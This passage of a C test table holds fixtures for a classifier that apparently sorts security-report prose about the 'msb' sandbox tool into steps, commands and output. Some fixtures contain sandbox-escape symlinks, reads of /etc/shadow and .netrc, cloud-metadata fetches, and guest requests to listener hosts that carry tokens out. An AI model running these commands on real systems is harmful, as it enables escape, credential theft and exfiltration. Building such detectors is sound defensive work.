	  "    $ msb snapshot --help | grep -i encrypt\n", 1, 0, -1 },
	{ PROSE "    $ sudo tail -f /var/log/msb/msbd.log\n    10:00:01 WARN egress allowed dst=198.51.100.53\n", 1, 0, 1 },
	/* ... but a reproduction beside them still counts: the msb command
	 * before the capture, a script attached in fact (below), a cat inside
	 * the guest after the commands that broke out */
	{ PROSE "    $ msb run --network none alpine -- ping -c 3 198.51.100.7\n    $ sudo tcpdump -ni eth0 icmp\n"
	  "    10:00:01.1 IP 192.0.2.10 > 198.51.100.7: ICMP echo request, id 9, seq 1, length 64\n", 1, 1, 1 },
	{ PROSE "    / # ln -s /proc/1/root/etc /mnt/shared/x\n    / # cat /mnt/shared/x/hostname\n    buildhost-07\n", 1, 1, -1 },
	{ PROSE "    $ ip link add veth9 type veth peer name veth10\n", 1, 1, 0 },
	{ PROSE "    $ ls -l /tmp/out && rm -rf /tmp/out\n", 1, 1, -1 },
	/* issue #3: a list heading is its own last sentence: "steps" in an
	 * earlier sentence of the line does not make suggestions steps */
	{ PROSE "We run msb for untrusted CI steps on shared runners, and we went through its defaults last week. "
	  "Here is what we would change:\n\n1. Turn the network off by default.\n2. Run agentd as a normal user.\n"
	  "3. Sign the release tarballs.\n", 1, 0, 0 },
	{ PROSE "We saw it on two laptops and a CI runner, each time from a clean install. Steps on any of them:\n\n"
	  "1. Create a sandbox with a writable mount.\n2. Rename the parent directory in the guest.\n"
	  "3. Write a file through the old path.\n", 1, 1, 0 },
	/* issue #3: a response the writer marks with an arrow ("-> {...}",
	 * "=> 403 ...", "\u2192 [...]") right under the command that got it,
	 * in a list step or not, is its output; an arrow before the writer's
	 * words, one under a prose step or under an environment query is not */
	{ PROSE "Steps:\n1. Ask for a token:\n   curl -s -X POST https://api.example/v1/keys \\\n"
	  "        -d '{\"scope\":\"read\"}'\n   -> {\"key\":\"k_ro_1\",\"scope\":\"read\"}\n"
	  "2. Use it to write:\n   curl -s -X PUT https://api.example/v1/files/a -H 'X-Key: k_ro_1'\n", 1, 1, 1 },
	{ PROSE "1. Try the admin route:\n   curl -s https://api.example/v1/admin/users -H 'X-Key: k_ro_1'\n"
	  "   => 200 [{\"id\":1,\"name\":\"root\"}]\n", 1, 1, 1 },
	{ PROSE "    curl -s http://127.0.0.1:8080/v1/sandboxes -H 'Authorization: Bearer k_ro_1'\n"
	  "\u2192 403 {\"error\":\"forbidden\"}\n", 1, 1, 1 },
	{ PROSE "1. Ask for a token:\n   curl -s -X POST https://api.example/v1/keys\n"
	  "   -> then reuse it on the write route with the same header.\n", 1, 1, 0 },
	{ PROSE "1. Open the console and create a viewer link.\n"
	  "   -> {\"role\":\"viewer\"} is what the form sends.\n", 1, -1, 0 },
	{ PROSE "1. Check the version:\n   msb --version\n   -> \"0.9.4\"\n", 1, -1, 0 },
	/* a bare status code the writer glosses in brackets is the result
	 * told; the same code alone, or with a reason phrase, is printed */
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 (the filter stops it, good)\n", 1, 1, 0 },
	{ PROSE "Repro:\n1. set a proxy on the host\n2. in the guest: wget -q -S https://files.example/x -O /dev/null\n"
	  "   -> 200 (via the relay, not blocked)\n3. in the guest: wget --no-proxy https://files.example/x\n"
	  "   -> blocked as it should be\n", 1, 1, 0 },
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 Forbidden\n", 1, 1, 1 },
	{ PROSE "2. From the guest:\n   wget -qS -O /dev/null http://files.example/a.bin\n"
	  "   -> 403 (Forbidden)\n", 1, 1, 1 },
	/* issue #3: the line right under a prompted command in a list step,
	 * or under the last line of one continued over lines, indented as the
	 * command is (or at the margin in a text that lost its indentation,
	 * a PDF's), is what it printed when it is machine-made: a JSON
	 * answer, a status code; the writer's words under it, a line back at
	 * the margin under an indented command, or a value under an
	 * environment query are not */
	{ PROSE "2. Delete the other team's volume:\n     $ curl -s -X DELETE -H \"X-Key: $K\" \\\n"
	  "         https://api.example/v2/teams/t_9/volumes/v_3\n     {\"deleted\":true,\"id\":\"v_3\"}\n"
	  "3. Nothing else was touched.\n", 1, 1, 1 },
	{ PROSE "4.2 Replay the request with the viewer token:\n$ curl -s -o /dev/null -w \"%{http_code}\\n\" \\\n"
	  "    -X PATCH https://api.example/v2/projects/p_4 -d '{\"public\":true}'\n200\n"
	  "4.3 The project is now public.\n", 1, 1, 1 },
	{ PROSE "1. Ask for the owner's list:\n   $ curl -s https://api.example/v2/teams/t_9/members\n"
	  "   [{\"user\":\"u_1\",\"role\":\"owner\"}]\n", 1, 1, 1 },
	{ PROSE "2. Delete the other team's volume:\n     $ curl -s -X DELETE -H \"X-Key: $K\" \\\n"
	  "         https://api.example/v2/teams/t_9/volumes/v_3\n     and the volume was gone a minute later.\n", 1, 1, 0 },
	{ PROSE "Run this:\n\n    $ curl -s https://api.example/v2/teams/t_9/members\nThanks,\n", 1, 1, 0 },
	{ PROSE "1. Check the client:\n   $ msb --version\n   0.9.4\n", 1, -1, 0 },
	/* issue #3: sudo and its program on their own line is a command, not
	 * what the command above printed */
	{ PROSE "  msb run --name x -v /:/host alpine -- touch /host/tmp/owned\n  sudo -n true\n", 1, 1, 0 },	/* issue #3: under a lead-in, a value with the command that gives it
	 * is the environment the writer typed, in any language; pasted output
	 * of the same command followed by log lines is logs */
	{ PROSE "  msb run --rm -v /srv/a:/a alpine -- touch /a/x\n\nThe file is there, owned by root.\n\n"
	  "On the build host:\n  0.9.5 (per msb --version), from the apt repo\n  Debian 12, kernel 6.1.0-28-amd64\n", 1, 1, 0 },
	{ PROSE "  msb run --rm -v /srv/a:/a alpine -- touch /a/x\n\nThe file is there, owned by root.\n\n"
	  "Testumgebung:\n  Debian 12, Kernel 6.1.0-28-amd64\n  msb 0.9.5\n", 1, 1, 0 },
	{ PROSE "  $ msb --version\n  msb 0.9.5\n  $ msb run --rm -v /srv/a:/a alpine -- touch /a/x\n"
	  "  2026-12-01T09:14:02Z WARN msbd: volume /srv/a mounted rw\n  2026-12-01T09:14:03Z INFO msbd: sandbox started\n",
	  1, 1, 1 },
	/* issue #3: a raw HTTP request as a listener printed it, under a line
	 * saying what arrived, in any language, is output; the same request
	 * typed into nc (a here-document) or to be pasted is the command */
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nThe listener on my VPS caught this:\n\n"
	  "PUT /hook HTTP/1.1\nHost: 10.9.8.7:7000\nX-Upstream-Token: msbk_live_x1\n", 1, 1, 1 },
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\n\u670d\u52a1\u5668\u6536\u5230\u7684\u8bf7\u6c42\uff1a\n\n"
	  "GET /collect HTTP/1.1\nHost: 10.9.8.7:7000\n", 1, 1, 1 },
	{ PROSE "Send it by hand:\n\n  nc 10.9.8.7 7000 <<EOF\n  GET /v1/sandboxes HTTP/1.1\n  Host: 10.9.8.7\n  EOF\n", 1, -1, 0 },
	{ PROSE "Paste this into Burp Repeater:\n\nPOST /v1/images/import HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	/* issue #3: an intercepting proxy shows a request as the method and
	 * the whole URL, no version: under a line saying what it caught, that
	 * is output too; the same line under an instruction is not */
	{ PROSE "  msb run --rm alpine -- wget -qO- https://hooks.example/x\n\nIntercepted with mitmweb:\n\n"
	  "PUT https://hooks.example/x\nx-upstream-token: msbk_live_t2\n", 1, 1, 1 },
	{ PROSE "Send this from any shell you like:\n\nDELETE https://api.example/v1/orgs/7/members/3\n", 1, -1, 0 },
	/* issue #3: what a step that is a command printed, indented under it,
	 * is output; a step in words with a command under it is not */
	{ PROSE "Steps:\n1. curl -s https://files.example/msb/install.sh | grep -c sha256sum\n   0\n"
	  "2. dig +short dl.superrad.example\n   198.51.100.23\n   198.51.100.24\n", 1, 1, 1 },
	{ PROSE "Steps:\n1. Make a link inside the sandbox:\n   ln -s /etc/shadow /tmp/link\n2. Copy it out with msb cp.\n", 1, -1, 0 },
	/* issue #3: a heading underlined with dashes or equals signs (setext,
	 * as Markdown and plain-text writers set one) reads as one ending in
	 * a colon: what sits under "Results (second run)" / "-----" is output,
	 * indented or not; the underline itself is no output, and a block
	 * under an underlined heading of another kind stays no log */
	{ PROSE "Results (second run)\n--------------------\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 1 },
	{ PROSE "Server response\n===============\n{\"granted\":true,\"role\":\"owner\"}\n", 1, -1, 1 },
	{ PROSE "Results (second run)\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 0 },
	{ PROSE "Output\n------\n\nI did not keep it, sorry.\n", 1, -1, 0 },
	{ PROSE "Background\n----------\n\n  {\"sandbox\":\"t9\",\"state\":\"running\"}\n", 1, -1, 0 },
	/* issue #3: a numbered list indented by two or four spaces or a tab
	 * is the list it is, as flush left: its steps in words with commands
	 * indented under them are no log, and a report whose only sentences
	 * are its steps still describes something */
	{ "Hello,\n\nHow to see it:\n  1. Boot a guest:\n       msb run --rm --name q alpine\n"
	  "  2. Inside it, fetch the host's instance metadata:\n       wget -qO- http://169.254.169.254/latest/\n"
	  "  3. The host's cloud role answers the guest.\n", -1, 1, 0 },
	{ "Hello,\n\nHow to see it:\n\t1. Boot a guest:\n\t     msb run --rm --name q alpine\n"
	  "\t2. Inside it, fetch the host's instance metadata:\n\t     wget -qO- http://169.254.169.254/latest/\n"
	  "\t3. The host's cloud role answers the guest.\n", -1, 1, 0 },
	{ "Hi,\n\nSteps\n    1. msb run --rm debian\n    2. journalctl inside the guest lists the host's units\n"
	  "    3. Problem: the host journal is not isolated, so the guest learns the host's secrets\n", 1, 1, 0 },
	{ "Hi,\n\nSteps\n1. msb run --rm debian\n2. journalctl inside the guest lists the host's units\n"
	  "3. Problem: the host journal is not isolated, so the guest learns the host's secrets\n", 1, 1, 0 },
	/* "Log in to ...:" is the verb, no heading of a log: the link under
	 * it is no output; "The log in /var/log/msb:" is the noun */
	{ "Hello,\n\nTo see it:\n  1. Log in to the web portal and open the sandbox page:\n"
	  "       https://console.example/s/4f2a\n  2. The page lists another tenant's sandboxes.\n", -1, -1, 0 },
	{ "Hello,\n\nTo see it:\n1. Log into the dashboard as a viewer:\n     https://dash.example/login\n"
	  "2. The page lists another tenant's sandboxes.\n", -1, -1, 0 },
	{ PROSE "The log in /var/log/msb on the host:\n\n  2026-11-30T10:00:01Z WARN agent: token=abc leaked\n", 1, -1, 1 },
	/* ... while an indented block stays what it is: a command's output
	 * with list markers in it, a step command's output under it */
	{ PROSE "Listing:\n\n    $ msb ls\n    - sbx-north running\n    - sbx-south running\n", 1, 1, 1 },
	{ PROSE "Steps:\n  1. curl -s https://dl.example/msb/setup.sh | grep -c sha512sum\n       0\n"
	  "  2. dig +short get.superrad.example\n       203.0.113.7\n       203.0.113.8\n", 1, 1, 1 },
	/* issue #3: a list item's sentence wrapped onto an indented line
	 * that starts with a command word ("   microsandbox versions).") is
	 * the item's prose, not a command; a command under an item that ends
	 * in a colon or does not end a sentence still is one, as is a
	 * command ending in " ." */
	{ PROSE "Our requests:\n1. Confirm receipt and name a contact.\n2. Send a statement for the advisory (fixed\n"
	  "   microsandbox releases).\n", -1, 0, -1 },
	{ PROSE "What we need:\n1. A contact for the case.\n2. Tell us which affected\n   msb versions ship the fix.\n", -1, 0, -1 },
	{ PROSE "Steps:\n1. Start a sandbox, then run\n   msb exec web -- cat /etc/shadow\n2. Read the output.\n", -1, 1, -1 },
	{ PROSE "To see it:\n- build the image from the repo root with\n  docker build -t probe .\n", -1, 1, -1 },
	/* a PoC only offered is none; offered beside real steps or commands,
	 * those still count */
	{ PROSE "The researcher's proof of concept is available to you on request through our portal.\n", -1, 0, -1 },
	{ PROSE "We can provide a working exploit upon request.\n", -1, 0, -1 },
	{ PROSE "Steps to reproduce:\n1. Create a sandbox with a volume\n2. Run the script in the guest\n"
	  "3. Check the host file\nA fuller exploit can be shared on request.\n", -1, 1, -1 },
	{ PROSE "Repro:\n\n    msb run --volume /tmp/x:/x alpine -- ln -s / /x/root\n\n"
	  "The full exploit is available on request.\n", -1, 1, -1 },
	/* (1223) the host's command that opens a shell in the guest, then
	 * the guest's prompt, told in a story with no heading: a
	 * reproduction; a guest prompt that only looks around is none */
	{ PROSE "From the second account I typed this:\n\n"
	  "    MSB_HOST=/run/other/msbd.sock msb run --volume /home/ana:/x -it alpine:3.20 sh\n"
	  "    / # cat /x/.netrc\n    machine example.net login ana\n\nand there it was.\n", -1, 1, -1 },
	{ PROSE "This is what the guest shows:\n\n    Welcome to the sandbox\n    / # ls /x\n    notes.txt\n", -1, 0, -1 },
	/* round 105 (1231): an output heading in Hungarian, Italian, Czech,
	 * Romanian, Korean, Greek; a heading in another sense stays none */
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nKimenete a gépemen:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nRisultato:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nVýstup:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nIeșire:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\n\ucd9c\ub825:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	{ PROSE "    msb run --rm --net-allow pypi.org img -- wget -qO- http://192.0.2.9:2222/\n\nΈξοδος:\n\n"
	  "    hello from 192.0.2.9\n", 1, 1, 1 },
	/* (1847) a job's log in Serbian, Croatian or Bosnian ("Iz loga:",
	 * "Log posla:", Cyrillic "Из лога:") over xtrace lines; the bare
	 * "log" is not read (English's "Log in to ..." starts so).  A GitHub
	 * Actions job log's markers are log lines */
	{ PROSE "Iz loga:\n+ echo c2VjcmV0LXZhbHVl\n+ git push origin HEAD:main\n", 1, -1, 1 },
	{ PROSE "Log posla, korak release:\n+ export TAP=c2VjcmV0LXZhbHVl\n+ ./scripts/tap.sh --push\n", 1, -1, 1 },
	{ PROSE "Из лога:\n+ echo c2VjcmV0LXZhbHVl\n+ git push origin HEAD:main\n", 1, -1, 1 },
	{ PROSE "Logujte se na konzolu ovako:\nkorisnik admin, lozinka iz trezora, pa otvorite podešavanja i nalog.\n", 1, -1, 0 },
	{ PROSE "##[group]Publish the formula\n##[error]Process completed with exit code 1.\n", 1, -1, 1 },
	{ PROSE "The runner folds it under a ##[group] marker, so nobody opens it.\n", 1, -1, 0 },
	{ PROSE "Eredményes volt a teszt, a javaslatunk:\n\n    Tiltsátok le az összes portot alapból.\n", 1, -1, 0 },
	/* (1231) what curl and nc -v print of their connections is output,
	 * under any lead-in; a sentence that names curl's error is not */
	{ PROSE "    msb run --rm --net-allow pypi.org img -- sh /probe.sh\n\nNa terminalu:\n\n"
	  "    curl: (7) Failed to connect to 192.0.2.9 port 80 after 3 ms\n"
	  "    Connection to 192.0.2.9 5432 port [tcp/postgresql] succeeded!\n", 1, 1, 1 },
	{ PROSE "nc: connect to 192.0.2.9 port 22 (tcp) failed: Connection refused\n"
	  "Connection to 192.0.2.9 8443 port [tcp/*] succeeded!\n", 1, -1, 1 },
	{ PROSE "The only message was the usual curl: (56) one, so nothing printed beyond that.\n", 1, -1, 0 },
	/* round 105 (1230): a heading opened by a mark ("\u25a0", "\u3010",
	 * Markdown's "#") reads as one ending in a colon; a capture tool named
	 * in it announces what the tool caught.  A marked heading of another
	 * kind announces nothing */
	{ PROSE "    $ node probe.mjs\n\n\u25a0 mitmweb \u3067\u6355\u307e\u3048\u305f\u901a\u4fe1\n\n"
	  "PUT https://hooks.example/v2/upload\n    x-api-key: k_live_DUMMY\n", 1, 1, 1 },
	{ PROSE "    $ node probe.mjs\n\n\u3010\u51fa\u529b\u3011\n\n    token=k_live_DUMMY sent=true\n", 1, 1, 1 },
	{ PROSE "    $ node probe.mjs\n\n## Ausgabe\n\n    token=k_live_DUMMY sent=true\n", 1, 1, 1 },
	{ PROSE "Burp, the second call:\n\n    PATCH https://api.example/v1/me\n", 1, -1, 1 },
	{ PROSE "    $ node probe.mjs\n\n\u25a0 \u74b0\u5883\n\n    macOS 15.3 / Node 22.11.0\n", 1, 1, 0 },
	{ PROSE "\u25a0 \u63d0\u6848\n\nPUT https://hooks.example/v2/upload\n", 1, -1, 0 },
	{ PROSE "We installed mitmproxy on the laptop and set the proxy like this:\n\n    HTTPS_PROXY=http://127.0.0.1:8080\n", 1, -1, 0 },
	/* round 105 (1235): a command continued over lines in a block, a
	 * blank line, then what it printed in a block of its own: output;
	 * the same block of prose, or of code, is not */
	{ PROSE "1. Read the member list:\n\n   curl -s -H \"X-Key: k_dev_1\" \\\n        https://api.example/v2/teams/t9/members\n\n"
	  "   [{\"login\":\"ana\",\"role\":\"owner\"}]\n", 1, 1, 1 },
	{ PROSE "    msb cloud ls --org acme\n\n    sbx-17  running  team-b\n", 1, 1, 1 },
	{ PROSE "1. Read the member list:\n\n   curl -s -H \"X-Key: k_dev_1\" \\\n        https://api.example/v2/teams/t9/members\n\n"
	  "   The list comes back with every member of the other team in it.\n", 1, 1, 0 },
	{ PROSE "    msb run --name w alpine -- sh\n\n    import os\n    os.system(\"id\")\n", 1, 1, 0 },
	{ PROSE "    cat > /tmp/x.json <<'EOF'\n\n    {\"role\":\"owner\"}\n", 1, -1, 0 },
	{ PROSE "On the first laptop:\n\n    msb cloud ls --org acme\n\n    second laptop:\n    msb cloud rm sbx-17 --org acme\n", 1, 1, 0 },
	/* round 106 (1243, 1248): steps told in sentences from a phone: an
	 * msb command after a colon that ends the sentence with its option
	 * and value, one in mid-sentence with two options given values, one
	 * with the environment the writer set for it.  A story with no
	 * command, a PoC promised, a flag or a command named in passing, a
	 * command the docs give, a variable alone are none */
	{ PROSE "This morning i started one from the nightly: msb run --from-snapshot nightly-3 ubuntu.\nInside it her .netrc was there.\n", 1, 1, 0 },
	{ PROSE "Then i restored it on the other host with msb snapshot restore nightly --name copy7 --volume-from prod and the files of prod were inside.\n", 1, 1, 0 },
	{ PROSE "If i export MSB_API_KEY=<key of team A> and MSB_ORG=<team B> then msb ls lists every sandbox of team B.\n", 1, 1, 0 },
	{ PROSE "Even msb ps run with MSB_ORG=other-team shows the other team's sandboxes, also stopped ones.\n", 1, 1, 0 },
	{ PROSE "Yesterday my colleague saw my files in her sandbox after a restore, and she never had access to my snapshot.\n", 1, 0, 0 },
	{ PROSE "I can send a PoC later from my laptop, now i am on the phone.\n", 1, 0, 0 },
	{ PROSE "The restore worked with msb snapshot restore and then the files of another sandbox were inside.\n", 1, 0, 0 },
	{ PROSE "My finding in short: msb run --network none still resolves names over DNS.\n", 1, 0, 0 },
	{ PROSE "The workaround we use: msb run --network none alpine.\n", 1, 0, 0 },
	{ PROSE "Setting MSB_TELEMETRY=0 stops the upload, so we keep it off now.\n", 1, 0, 0 },
	{ PROSE "The docs say that MSB_ORG=<org> makes msb ls show the sandboxes of that org.\n", 1, 0, 0 },
	{ PROSE "With MSB_LOG=trace msb exec prints every argument it forwards to the guest.\n", 1, 0, 0 },
	{ PROSE "Since MSB_ORG=acme-prod is set in our profile, this is what msb prints at the start of each job.\n", 1, 0, 0 },
	/* (1252) an msb command told unquoted in a sentence of what someone
	 * did, with an option: a reproduction; a setup named in the present,
	 * or a command with only a flag, is none */
	{ PROSE "I published a snapshot with msb snapshot push web-1 --org acme --private, and a colleague\n"
	  "at another firm then ran msb snapshot pull acme/web-1 --as copy and got it.\n", -1, 1, -1 },
	{ PROSE "We use msb run --net-allow pypi.org ci-image for all our CI jobs.\n", -1, 0, -1 },
	/* (1813) curl or wget told unquoted in a sentence with the address it
	 * fetched, in English and the other languages: a reproduction; the
	 * program without its address, or one anyone could run, is none */
	{ PROSE "from the guest we then ran wget -qO- http://10.0.2.2:5432/ and the database banner came back.\n", -1, 1, -1 },
	{ PROSE "then i tried curl -s -H 'Host: admin' http://host.internal:9000/metrics and saw the counters.\n", -1, 1, -1 },
	{ PROSE "Dentro da sandbox rodei curl http://192.0.2.44:8888/api e recebi a lista.\n", -1, 1, -1 },
	{ PROSE "Dans le bac \xc3\xa0 sable j'ai lanc\xc3\xa9 curl -k https://10.1.1.1:6443/version et il a r\xc3\xa9pondu.\n", -1, 1, -1 },
	{ PROSE "I ran curl against the gateway address and it answered, which it should not.\n", -1, 0, -1 },
	{ PROSE "Anyone in the sandbox can run curl http://10.0.2.2:11434/ to reach the host.\n", -1, 0, -1 },
	{ PROSE "I ran curl --version inside the guest to see what it was built with.\n", -1, 0, -1 },
	/* (1788) the writer's own check of a CI workflow from a fork, with
	 * what the pull request's code did: a reproduction; one an attacker
	 * could make, or a run that did nothing, is none */
	{ PROSE "We verified this with a throwaway PR from our fork whose build script echoed the length of the token.\n", -1, 1, -1 },
	{ PROSE "I tested it safely from my own fork: pull request #311 added a step.sh that only listed the secret names.\n", -1, 1, -1 },
	{ PROSE "Someone could test it from a fork with a PR that prints the token.\n", -1, 0, -1 },
	{ PROSE "I checked it from a fork, but the job never printed anything and was skipped.\n", -1, 0, -1 },
	{ PROSE "We tested the fix in a PR that pins the checkout to the base commit.\n", -1, 0, -1 },
	/* (1302) what arrived at a listener, said in Turkish with a
	 * participle ("gelen", "yakalanan", "ulaşan"): the request under it
	 * is output; a request to be sent is not, nor a word that only
	 * starts like one ("Geleneksel") */
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nSunucuma gelen istek (token sahte):\n\n"
	  "GET /topla HTTP/1.1\nHost: 10.9.8.7:7000\nX-Token: msbk_test_1\n", 1, 1, 1 },
	{ PROSE "  msb run --rm alpine -- wget -qO- http://10.9.8.7:7000/\n\nDinleyicinin yakaladığı istek:\n\n"
	  "POST /hook HTTP/1.1\nHost: 10.9.8.7:7000\n", 1, 1, 1 },
	{ PROSE "Geleneksel yöntemle gönderilecek istek:\n\nGET /v1/sandboxes HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	{ PROSE "Sunucuya şu isteği gönderin:\n\nGET /v1/sandboxes HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	/* (1313) rows of a process listing as ps aux and ps -ef print them
	 * are output; the command that asks for one, or numbers told in a
	 * sentence, are none */
	{ PROSE "Another user on the box ran ps and sent me this:\n\n"
	  "mira     40211  0.0  0.2 912344 18220 pts/3    S+   09:41   0:00 msb exec w1 -- env\n"
	  "mira     40230  3.1  1.1 2214400 90112 ?       Sl   09:41   0:12 /usr/lib/msb/msb-vmm --token t0\n", 1, -1, 1 },
	{ PROSE "On the build host:\n\nroot       812     1  0 09:14 ?        00:00:03 /usr/bin/msbd --listen 0.0.0.0:5555\n"
	  "root       833   812  0 09:14 ?        00:00:00 msb-agent --env API_KEY=abc\n", 1, -1, 1 },
	{ PROSE "I ran ps aux | grep msb and saw the key in the list; the output is gone.\n", 1, -1, 0 },
	{ PROSE "Sandbox w1 used 2048 MB and 2 CPUs for 14 minutes, then 3 more at 0.5 load.\n", 1, -1, 0 },
	/* (1320) a sentence that ends on the writer getting or seeing, or on
	 * what the program says or fails with, over a block: what it printed;
	 * a file or code the writer got, or what he does not get, is none */
	{ PROSE "I filled the scratch volume and after every restart I always get\n\n"
	  "    Error: volume 'scratch' could not be mounted: no space left\n", 1, -1, 1 },
	{ PROSE "After the second snapshot restore it fails with\n\n    restore: checksum mismatch in layer 3\n", 1, -1, 1 },
	{ PROSE "This is the file I got\n\n    token=abc123\n    user=dan\n", 1, -1, 0 },
	{ PROSE "What I do not get\n\n    why the guest keeps the old mount\n", 1, -1, 0 },
	/* (1314) steps told in words at the keyboard: a place word alone
	 * ("inside,") and "try to", curl or send as the action; a list of
	 * recommendations with such verbs is no reproduction */
	{ PROSE "I checked it like this:\n\n1. start a sandbox with networking turned off\n"
	  "2. inside, try to reach example.com: nothing, as expected\n"
	  "3. inside, curl the gateway address on port 8080: my dev server answers\n", 1, 1, 0 },
	{ PROSE "Suggestions:\n\n1. Send a warning when the network is off\n2. Try to block the gateway address\n"
	  "3. Document the behaviour in the networking guide\n", 1, 0, 0 },
	/* (1280) a steps heading in Vietnamese, Portuguese, Polish; a list
	 * under a heading of questions is none */
	{ PROSE "Các bước tái hiện:\n\n1. Mở trang console và đăng nhập.\n2. Vào mục Sandboxes của tổ chức khác.\n"
	  "3. Trang vẫn hiện danh sách.\n", 1, 1, 0 },
	{ PROSE "Passos para reproduzir:\n1. Entre no console.\n2. Abra a organização de outra pessoa.\n"
	  "3. A lista aparece.\n", 1, 1, 0 },
	{ PROSE "Kroki:\n1. Zaloguj się do konsoli.\n2. Otwórz cudzą organizację.\n3. Lista się pojawia.\n", 1, 1, 0 },
	{ PROSE "Tôi có ba câu hỏi:\n\n1. Lỗi này có nghiêm trọng không?\n2. Tôi có nên báo cho họ?\n"
	  "3. Khi nào sẽ có bản sửa?\n", 1, 0, 0 },
	/* (1331) the exploit held back until the team answers: what is shown
	 * around it reproduces nothing; a program said not to hold a payload
	 * back is no such promise */
	{ PROSE "We are holding back the working exploit until you confirm receipt.\n\n    $ ls -l /etc/x\n", 1, 0, -1 },
	{ PROSE "I held back the payload for now.\n\n    $ msb run --rm alpine -- sh /tmp/p.sh\n", 1, 0, -1 },
	{ PROSE "The proxy did not hold back the payload, so the request went out.\n\n"
	  "    $ msb run --rm alpine -- wget http://10.0.0.5/\n", 1, 1, -1 },
	/* (1284) Python written flush left: a with-statement's header is
	 * code, not a lead-in, and the block under it is no output */
	{ PROSE "from microsandbox import Sandbox\nimport io\n\nbuf = io.BytesIO()\n"
	  "with Sandbox.create(image=\"alpine\") as box:\n    note = b\"hello from the guest\\n\"\n"
	  "    box.files.write(\"/tmp/n\", note)\n", 1, 1, 0 },
	/* (1484) a debugger's stop on a signal and its backtrace frames, a
	 * UBSAN report: printed output, logs; the same told in prose is not */
	{ PROSE "Running the VMM under gdb:\n\n"
	  "    Thread 3 \"vcpu1\" received signal SIGBUS, Bus error.\n"
	  "    0x00007f3e2a1b4c10 in ?? ()\n", 1, -1, 1 },
	{ PROSE "Backtrace from the host:\n\n"
	  "    #0  0x00005612ab3c9d10 in vmm::devices::serial::Uart::write ()\n", 1, -1, 1 },
	{ PROSE "[   41.208113] UBSAN: shift-out-of-bounds in drivers/char/virtio_console.c:512:9\n", 1, -1, 1 },
	{ PROSE "The process received signal SIGSEGV and died; I will send the gdb backtrace later.\n", 1, -1, 0 },
	/* (1531) a here-document's lines up to its delimiter are what the
	 * writer typed into the command (a script, a config), whatever they
	 * look like: no output, no log, still the PoC's; what the script
	 * printed after the delimiter line is output.  A here-string ("<<<")
	 * and a shift ("1<<4") open none */
	{ PROSE "    $ cat > /var/tmp/probe <<'END'\n    #!/bin/sh\n    uid=0(root) gid=0(root) groups=0(root)\n"
	  "    END\n    $ chmod 755 /var/tmp/probe\n", 1, 1, 0 },
	{ PROSE "  $ tee /etc/msb/hook.conf <<-EOT\n  cat: /root/.ssh/id_ed25519: Permission denied\n"
	  "  Segmentation fault (core dumped)\n  EOT\n", 1, 1, 0 },
	{ PROSE "    $ python3 - <<\"PY\"\n    > import os\n    > print(\"uid=0(root) euid=0\")\n    > PY\n", 1, 1, 0 },
	{ PROSE "    msb exec w -- sh <<X1\n    ls -l /host\n    ls: /host: Permission denied\n    X1\n", 1, 1, 0 },
	{ PROSE "    $ cat > /var/tmp/probe <<EOF\n    id\n    EOF\n    $ sh /var/tmp/probe\n"
	  "    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "    $ sh -s <<< 'id -u'\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "    $ msb exec w -- sh -c 'echo $((1<<4)); id'\n    16\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	/* (1573) commands under a label for the account or the place they
	 * run in ("as alice:", "(inside)") are commands, not output: no log;
	 * what one of them printed under it still is */
	{ PROSE "I tried it with two accounts:\n\n   as alice:  msb run --name n alpine:3.20\n"
	  "              (inside) echo mark > /root/m\n              msb snapshot create n\n"
	  "   as bob:    msb snapshot ls\n              msb run --from-snapshot snap-1 alpine:3.20 cat /root/m\n\n"
	  "bob could read the file.\n", 1, 1, 0 },
	{ PROSE "Two accounts:\n\n   as bob:  msb snapshot ls\n   ID          OWNER   CREATED\n"
	  "   snap-91ac   alice   2026-11-02\n", 1, 1, 1 },
	/* (1862) a one-line try/catch of JavaScript in a block is code: with
	 * the call above it, two code lines make the snippet a PoC; a block
	 * line that only starts with "try" is not */
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    try { await box.run(\"true\") } catch (err) { console.log(err.stack) }\n", 1, 1, -1 },
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    } catch (err) {\n", 1, 1, -1 },
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    try again with a larger image\n", 1, 0, -1 },
	/* (161) code typed flush left on a phone: a line that is one dotted
	 * call, or assigns what one returns, is code; prose with a dotted
	 * name before a parenthesis is not */
	{ PROSE "what my guest program does:\n\nimport socket\n"
	  "conn = socket.create_connection((\"192.0.2.1\", 80))\nconn.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\")\n", 1, 1, -1 },
	{ PROSE "import socket\nsdk.log (the default file) grows.\nsee also app.cfg(5) in the manual.\n", 1, 0, -1 },
